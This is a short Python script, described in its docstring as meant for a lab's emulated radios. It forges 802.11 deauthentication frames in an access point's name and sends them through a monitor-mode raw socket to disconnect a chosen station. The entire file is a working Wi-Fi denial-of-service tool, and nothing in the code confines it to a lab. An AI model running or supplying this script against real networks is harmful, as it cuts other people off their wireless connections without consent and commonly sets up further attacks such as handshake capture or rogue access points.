#!/usr/bin/env python3
"""Sends deauthentication frames in an access point's name, without protection, as anybody within reach can: on the lab's emulated radios.

    farewell.py MONITOR BSSID STATION REASON COUNT      MONITOR: an interface of that type, on the network's channel"""
import socket
import struct
import sys
import time


def main() -> None:
    device, bssid, station, reason, count = sys.argv[1:]
    address = lambda text: bytes.fromhex(text.replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((device, 0))
        for n in range(int(count)):
            # Radiotap without fields; frame control and duration; receiver, transmitter, BSSID; sequence; reason.
            frame = b"\x00\x00\x08\x00\x00\x00\x00\x00" + b"\xc0\x00\x00\x00" + address(station) + address(bssid) * 2 + struct.pack("<HH", n << 4, int(reason))
            s.send(frame)
            time.sleep(0.2)


if __name__ == "__main__":
    main()
